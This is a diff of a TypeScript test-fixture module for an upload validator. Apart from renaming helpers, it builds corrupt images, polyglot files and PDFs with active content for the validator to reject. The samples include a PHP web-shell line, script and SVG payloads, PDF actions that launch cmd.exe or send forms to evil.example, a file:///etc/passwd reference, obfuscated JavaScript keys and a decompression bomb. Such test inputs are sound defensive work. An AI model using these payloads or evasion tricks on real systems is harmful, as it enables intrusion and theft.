@@ -1,25 +1,25 @@
 import { deflateSync } from 'node:zlib'
 import sharp from 'sharp'
-import type { RefusalReason } from '#domain/requests/refusals.ts'
-import { deflated, makeCompressedPdf, makePdf } from './pdf.ts'
-import { makeZip, paint, patch, photograph, withComment } from './pictures.ts'
+import type { RejectionReason } from '#domain/requests/refusals.ts'
+import { deflated, createCompressedPdf, createPdf } from './pdf.ts'
+import { createZip, createPlainPicture, overwriteBytes, createPhoto, withComment } from './pictures.ts'
 import { blackPng, joinPng, pngChunk, pngHeader } from './png.ts'
 
-export type BadFiles = Record<string, [content: Buffer, reason: RefusalReason]>
+export type BrokenFiles = Record<string, [content: Buffer, reason: RejectionReason]>
 
 const latin1 = (text: string) => Buffer.from(text, 'latin1')
-const damaged = (content: Buffer): BadFiles[string] => [content, 'file-damaged']
-const huge = (content: Buffer): BadFiles[string] => [content, 'file-too-many-pixels']
-const active = (content: Buffer): BadFiles[string] => [content, 'file-active']
+const damaged = (content: Buffer): BrokenFiles[string] => [content, 'file-damaged']
+const huge = (content: Buffer): BrokenFiles[string] => [content, 'file-too-many-pixels']
+const active = (content: Buffer): BrokenFiles[string] => [content, 'file-active']
 const cut = (whole: Buffer, part: number) => damaged(whole.subarray(0, Math.floor(whole.length * part)))
-const and = (picture: Buffer, more: Buffer | string): BadFiles[string] => [
+const appendTo = (picture: Buffer, more: Buffer | string): BrokenFiles[string] => [
   Buffer.concat([picture, typeof more === 'string' ? latin1(more) : more]),
   'file-type',
 ]
 
 /** Pictures that are cut short, lie about themselves or are more than they seem. */
-export async function makeBadPictures(): Promise<BadFiles> {
-  const photo = photograph(400, 300)
+export async function createBrokenPictures(): Promise<BrokenFiles> {
+  const photo = createPhoto(400, 300)
   const jpeg = await photo.clone().jpeg().toBuffer()
   const progressive = await photo.clone().jpeg({ progressive: true }).toBuffer()
   const png = await photo.clone().png().toBuffer()
@@ -30,7 +30,7 @@ export async function makeBadPictures(): Promise<BadFiles> {
     .webp()
     .toBuffer()
   const film = await sharp(
-    await Promise.all(['#f00', '#0f0'].map((colour) => paint(40, 30, colour).png().toBuffer())),
+    await Promise.all(['#f00', '#0f0'].map((colour) => createPlainPicture(40, 30, colour).png().toBuffer())),
     {
       join: { animated: true },
     },
@@ -47,7 +47,7 @@ export async function makeBadPictures(): Promise<BadFiles> {
     'a JPEG without its end': damaged(jpeg.subarray(0, -2)),
     'a progressive JPEG cut in the middle': cut(progressive, 0.5),
     'a JPEG whose segment is longer than the file': damaged(
-      patch(jpeg, '\u00ff\u00db', 2, [0xff, 0xff]).subarray(0, 900),
+      overwriteBytes(jpeg, '\u00ff\u00db', 2, [0xff, 0xff]).subarray(0, 900),
     ),
     'a PNG of a signature alone': damaged(joinPng()),
     'a PNG cut behind its header': damaged(png.subarray(0, 33)),
@@ -56,16 +56,16 @@ export async function makeBadPictures(): Promise<BadFiles> {
     'a PNG with its middle missing': damaged(
       joinPng(pngHeader(400, 300), pngChunk('IDAT', latin1('x\u009c')), pngChunk('IEND')),
     ),
-    'a PNG whose pixels do not match their sum': damaged(patch(png, 'IDAT', 500, [1, 2, 3, 4, 5, 6, 7, 8])),
+    'a PNG whose pixels do not match their sum': damaged(overwriteBytes(png, 'IDAT', 500, [1, 2, 3, 4, 5, 6, 7, 8])),
     'a PNG without width': damaged(joinPng(pngHeader(0, 300), pngChunk('IDAT'), pngChunk('IEND'))),
     'a PNG that is an SVG': damaged(Buffer.concat([joinPng(), latin1('<svg xmlns="http://www.w3.org/2000/svg"/>')])),
     'a WebP of a header alone': damaged(webp.subarray(0, 12)),
     'a WebP cut in the middle': cut(webp, 0.5),
     'a WebP that lacks its last bytes': damaged(webp.subarray(0, -10)),
     'a WebP cut within its notes': damaged(noted.subarray(0, -8)),
-    'a WebP of an unknown kind': damaged(patch(webp, 'VP8 ', 0, [0x58, 0x58, 0x58, 0x58])),
+    'a WebP of an unknown kind': damaged(overwriteBytes(webp, 'VP8 ', 0, [0x58, 0x58, 0x58, 0x58])),
     'a WebP whose picture is rubbish': damaged(
-      patch(
+      overwriteBytes(
         webp,
         'VP8 ',
         8,
@@ -77,9 +77,9 @@ export async function makeBadPictures(): Promise<BadFiles> {
     'a PNG that says it has four gigapixels': huge(
       joinPng(pngHeader(65_535, 65_535), pngChunk('IDAT'), pngChunk('IEND')),
     ),
-    'a JPEG that says it has four gigapixels': huge(patch(jpeg, '\u00ff\u00c0', 5, [0xff, 0xdc, 0xff, 0xdc])),
+    'a JPEG that says it has four gigapixels': huge(overwriteBytes(jpeg, '\u00ff\u00c0', 5, [0xff, 0xdc, 0xff, 0xdc])),
     'a WebP that says it has 268 megapixels': huge(
-      patch(webp, Buffer.from([0x9d, 0x01, 0x2a]), 3, [0xff, 0x3f, 0xff, 0x3f]),
+      overwriteBytes(webp, Buffer.from([0x9d, 0x01, 0x2a]), 3, [0xff, 0x3f, 0xff, 0x3f]),
     ),
     'an animated WebP': [film, 'file-animated'],
     'an animated PNG': [blackPng(10, 10, pngChunk('acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]))), 'file-animated'],
@@ -87,38 +87,41 @@ export async function makeBadPictures(): Promise<BadFiles> {
 }
 
 /** Pictures that are an archive, a page or a program at the same time. */
-export async function makePolyglots(): Promise<BadFiles> {
-  const photo = photograph(200, 150)
+export async function createPolyglots(): Promise<BrokenFiles> {
+  const photo = createPhoto(200, 150)
   const jpeg = await photo.clone().jpeg().toBuffer()
   const png = await photo.clone().png().toBuffer()
   const webp = await photo.clone().webp().toBuffer()
   return {
-    'a JPEG and a ZIP': and(jpeg, makeZip()),
-    'a JPEG and a ZIP some way behind it': and(jpeg, Buffer.concat([Buffer.alloc(5000, 1), makeZip('a comment')])),
-    'a PNG and a ZIP': and(png, makeZip()),
-    'a WebP and a ZIP': and(webp, makeZip()),
-    'a PDF and a ZIP': and(makePdf(), makeZip()),
-    'a JPEG and a page': and(jpeg, '<html><script>alert(1)</script>'),
-    'a JPEG and a drawing': and(jpeg, '  <SVG onload=alert(1)>'),
-    'a PNG and a script': and(png, 'x<script src=//evil>'),
-    'a WebP and PHP': and(webp, '<?php system($_GET[0]); ?>'),
-    'a JPEG and a frame': and(jpeg, '\n<iframe src="javascript:1">'),
-    'a JPEG and a Windows program': and(jpeg, 'MZ\u0090\0\u0003'),
-    'a JPEG and a Linux program': and(jpeg, '\u007fELF\u0002'),
-    'a JPEG and a shell script': and(jpeg, '#!/bin/sh\nid\n'),
-    'a JPEG and a RAR': and(jpeg, 'Rar!\u001a\u0007\u0001\0'),
-    'a PNG and a 7z': and(png, '7z\u00bc\u00af\u0027\u001c'),
-    'a JPEG and a GZip': and(jpeg, '\u001f\u008b\u0008\0'),
-    'a JPEG and a PDF': and(jpeg, makePdf()),
+    'a JPEG and a ZIP': appendTo(jpeg, createZip()),
+    'a JPEG and a ZIP some way behind it': appendTo(
+      jpeg,
+      Buffer.concat([Buffer.alloc(5000, 1), createZip('a comment')]),
+    ),
+    'a PNG and a ZIP': appendTo(png, createZip()),
+    'a WebP and a ZIP': appendTo(webp, createZip()),
+    'a PDF and a ZIP': appendTo(createPdf(), createZip()),
+    'a JPEG and a page': appendTo(jpeg, '<html><script>alert(1)</script>'),
+    'a JPEG and a drawing': appendTo(jpeg, '  <SVG onload=alert(1)>'),
+    'a PNG and a script': appendTo(png, 'x<script src=//evil>'),
+    'a WebP and PHP': appendTo(webp, '<?php system($_GET[0]); ?>'),
+    'a JPEG and a frame': appendTo(jpeg, '\n<iframe src="javascript:1">'),
+    'a JPEG and a Windows program': appendTo(jpeg, 'MZ\u0090\0\u0003'),
+    'a JPEG and a Linux program': appendTo(jpeg, '\u007fELF\u0002'),
+    'a JPEG and a shell script': appendTo(jpeg, '#!/bin/sh\nid\n'),
+    'a JPEG and a RAR': appendTo(jpeg, 'Rar!\u001a\u0007\u0001\0'),
+    'a PNG and a 7z': appendTo(png, '7z\u00bc\u00af\u0027\u001c'),
+    'a JPEG and a GZip': appendTo(jpeg, '\u001f\u008b\u0008\0'),
+    'a JPEG and a PDF': appendTo(jpeg, createPdf()),
     'a JPEG with a PDF in its comment': [withComment(jpeg, '%PDF-1.4\n1 0 obj'), 'file-type'],
     'a PNG with a PDF in its comment': [blackPng(10, 10, pngChunk('tEXt', latin1('a\0%PDF-1.4'))), 'file-type'],
   }
 }
 
 /** Documents that are cut short, closed, or do something. */
-export function makeBadPdfs(): BadFiles {
-  const whole = makePdf()
-  const acting = (action: string) => active(makePdf({ catalogue: '/OpenAction 5 0 R', objects: [action] }))
+export function createBrokenPdfs(): BrokenFiles {
+  const whole = createPdf()
+  const acting = (action: string) => active(createPdf({ catalogue: '/OpenAction 5 0 R', objects: [action] }))
   const hex = Buffer.from(latin1('1 0 << /S /JavaScript >>').toString('hex'))
   const bomb = deflated('', Buffer.alloc(17 * 1024 * 1024))
   const broken: [string, Buffer] = ['/Filter /FlateDecode', latin1('x\u009c' + '\u00ff'.repeat(50))]
@@ -137,16 +140,18 @@ export function makeBadPdfs(): BadFiles {
     'a PDF of version 9': damaged(latin1(whole.toString('latin1').replace('%PDF-1.7', '%PDF-9.7'))),
     'a PDF with a page behind it': damaged(Buffer.concat([whole, latin1('<html><script>')])),
     'a PDF that wants a password': [
-      makePdf({ trailer: '/Encrypt 5 0 R', objects: ['<< /Filter /Standard /V 2 >>'] }),
+      createPdf({ trailer: '/Encrypt 5 0 R', objects: ['<< /Filter /Standard /V 2 >>'] }),
       'file-encrypted',
     ],
     'a PDF that wants a password in other letters': [
-      makePdf({ trailer: '/Encr#79pt 5 0 R', objects: ['<< /V 2 >>'] }),
+      createPdf({ trailer: '/Encr#79pt 5 0 R', objects: ['<< /V 2 >>'] }),
       'file-encrypted',
     ],
     'a PDF with a script at its opening': acting('<< /S /JavaScript /JS (app.alert(1)) >>'),
     'a PDF with a script in other letters': acting('<< /S /J#61va#53cript /JS (app.alert(1)) >>'),
-    'a PDF with a script by name': active(makePdf({ catalogue: '/Names << /JavaScript 5 0 R >>', objects: ['<< >>'] })),
+    'a PDF with a script by name': active(
+      createPdf({ catalogue: '/Names << /JavaScript 5 0 R >>', objects: ['<< >>'] }),
+    ),
     'a PDF with an article of another computer': acting('<< /S /Thread /F 6 0 R /D 0 >>'),
     ...Object.fromEntries(
       [
@@ -158,58 +163,60 @@ export function makeBadPdfs(): BadFiles {
       ].map((action) => [`a PDF that hides what it opens: ${action.slice(0, 40)}`, acting(action)]),
     ),
     'a PDF that opens an object with zeros before its number': active(
-      makePdf({
+      createPdf({
         catalogue: '/OpenAction 00000000000005 0 R',
         objects: ['<< /S /URI /URI (https://evil.example) >>'],
       }),
     ),
     'a PDF that starts a program': acting('<< /S /Launch /F (cmd.exe) >>'),
-    'a PDF with a file in it': active(makePdf({ objects: [deflated('/Type /EmbeddedFile', 'MZ')] })),
-    'a PDF with files by name': active(makePdf({ catalogue: '/Names << /EmbeddedFiles 5 0 R >>', objects: ['<< >>'] })),
-    'a PDF with a film': active(makePdf({ objects: ['<< /Type /Annot /Subtype /RichMedia >>'] })),
+    'a PDF with a file in it': active(createPdf({ objects: [deflated('/Type /EmbeddedFile', 'MZ')] })),
+    'a PDF with files by name': active(
+      createPdf({ catalogue: '/Names << /EmbeddedFiles 5 0 R >>', objects: ['<< >>'] }),
+    ),
+    'a PDF with a film': active(createPdf({ objects: ['<< /Type /Annot /Subtype /RichMedia >>'] })),
     'a PDF that plays': acting('<< /S /Rendition /OP 0 >>'),
     'a PDF that opens another in it': acting('<< /S /GoToE /T << /R /C >> >>'),
     'a PDF that opens another beside it': acting('<< /S /GoToR /F (next.pdf) /D [0 /Fit] >>'),
     'a PDF that opens a page of the web by itself': acting('<< /S /URI /URI (https://evil.example) >>'),
     'a PDF that opens a page of the web right away': active(
-      makePdf({ catalogue: '/OpenAction << /S /URI /URI (https://evil.example) >>' }),
+      createPdf({ catalogue: '/OpenAction << /S /URI /URI (https://evil.example) >>' }),
     ),
     'a PDF that opens a page of the web after another action': acting('<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>'),
     'a PDF that does something when its page is shown': active(
-      makePdf({ catalogue: '/AA << /O << /S /URI /URI (https://evil.example) >> >>' }),
+      createPdf({ catalogue: '/AA << /O << /S /URI /URI (https://evil.example) >> >>' }),
     ),
     'a PDF of compressed objects that opens a page of the web by itself': active(
-      makeCompressedPdf('/OpenAction 2 0 R', '/A << /S /URI /URI (https://evil.example) >>'),
+      createCompressedPdf('/OpenAction 2 0 R', '/A << /S /URI /URI (https://evil.example) >>'),
     ),
     ...Object.fromEntries(
       FOREIGN_LINKS.map((link) => [
         `a PDF with a link to ${link.replaceAll(/(?:\\\n){2,}| {2,}/g, '…')}, ${link.length} letters`,
-        active(makePdf({ objects: [`<< /Subtype /Link /A << /S /URI /URI ${link} >> >>`, '(file:///etc/passwd)'] })),
+        active(createPdf({ objects: [`<< /Subtype /Link /A << /S /URI /URI ${link} >> >>`, '(file:///etc/passwd)'] })),
       ]),
     ),
     'a PDF with a stream of another computer': active(
-      makePdf({ objects: [['/F (\\\\\\\\evil.example\\\\a)', latin1('x')]] }),
+      createPdf({ objects: [['/F (\\\\\\\\evil.example\\\\a)', latin1('x')]] }),
     ),
     'a PDF that sends a form': acting('<< /S /SubmitForm /F (https://evil.example) >>'),
     'a PDF that reads a file': acting('<< /S /ImportData /F (c.fdf) >>'),
-    'a PDF with a form of XML': active(makePdf({ catalogue: '/AcroForm << /XFA 5 0 R >>', objects: ['<< >>'] })),
+    'a PDF with a form of XML': active(createPdf({ catalogue: '/AcroForm << /XFA 5 0 R >>', objects: ['<< >>'] })),
     'a PDF with a script among compressed objects': active(
-      makeCompressedPdf('/OpenAction << /S /JavaScript /JS (1) >>'),
+      createCompressedPdf('/OpenAction << /S /JavaScript /JS (1) >>'),
     ),
     'a PDF with a script in a compressed stream without a name': active(
-      makePdf({ objects: [deflated('', '<< /S /JavaScript >>')] }),
+      createPdf({ objects: [deflated('', '<< /S /JavaScript >>')] }),
     ),
     'a PDF with objects in hexadecimal': active(
-      makePdf({ objects: [['/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', hex]] }),
+      createPdf({ objects: [['/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', hex]] }),
     ),
     ...hiddenObjects(hex),
-    'a PDF with a stream that becomes too much': damaged(makePdf({ objects: [bomb] })),
+    'a PDF with a stream that becomes too much': damaged(createPdf({ objects: [bomb] })),
     'a PDF with more streams than anybody writes': damaged(
-      makePdf({ objects: [['', latin1('stream\n'.repeat(20_001))]] }),
+      createPdf({ objects: [['', latin1('stream\n'.repeat(20_001))]] }),
     ),
-    'a PDF with broken streams': damaged(makePdf({ objects: Array.from({ length: 17 }, () => broken) })),
+    'a PDF with broken streams': damaged(createPdf({ objects: Array.from({ length: 17 }, () => broken) })),
     'a PDF with twenty pictures that become too much': damaged(
-      makePdf({ objects: Array.from({ length: 20 }, () => pictureBomb) }),
+      createPdf({ objects: Array.from({ length: 20 }, () => pictureBomb) }),
     ),
   }
 }
@@ -241,11 +248,11 @@ const FOREIGN_LINKS = [
 ]
 
 /** A script in a stream of objects that readers unpack and a sieve might not. */
-function hiddenObjects(hex: Buffer): BadFiles {
+function hiddenObjects(hex: Buffer): BrokenFiles {
   const words = '1 0 << /S /JavaScript /JS (app.alert(1)) >>'
   const behindNothing = Buffer.from(Array.from(latin1(words)).flatMap((byte) => [0, byte]))
   const hidden = (dictionary: string, stream: Uint8Array) =>
-    active(makePdf({ objects: [[`/N 1 /First 4 ${dictionary}`, stream]] }))
+    active(createPdf({ objects: [[`/N 1 /First 4 ${dictionary}`, stream]] }))
   const [, spaced] = deflated('', words)
   return {
     'a PDF with objects behind a long dictionary': hidden(
@@ -267,14 +274,14 @@ function hiddenObjects(hex: Buffer): BadFiles {
     'a PDF with objects that call themselves nothing': hidden('/Type 9 0 R /Filter /ASCIIHexDecode', hex),
     'a PDF with objects in other words': hidden('/Type /ObjStm /F /AHx', hex),
     'a PDF with objects behind half a string': active(
-      makePdf({ objects: ['( ', [`/N 1 /First 4 /Filter /ASCIIHexDecode % )\n`, hex]] }),
+      createPdf({ objects: ['( ', [`/N 1 /First 4 /Filter /ASCIIHexDecode % )\n`, hex]] }),
     ),
     'a PDF with objects behind a bracket in a comment': active(
-      makePdf({ objects: ['<< >> % (\n', [`/N 1 /First 4 /Filter /ASCIIHexDecode % )\n`, hex]] }),
+      createPdf({ objects: ['<< >> % (\n', [`/N 1 /First 4 /Filter /ASCIIHexDecode % )\n`, hex]] }),
     ),
     'a PDF with a space behind the word stream': active(
       latin1(
-        makePdf({ objects: [['/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', spaced]] })
+        createPdf({ objects: [['/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', spaced]] })
           .toString('latin1')
           .replaceAll('stream\r\n', 'stream \n'),
       ),
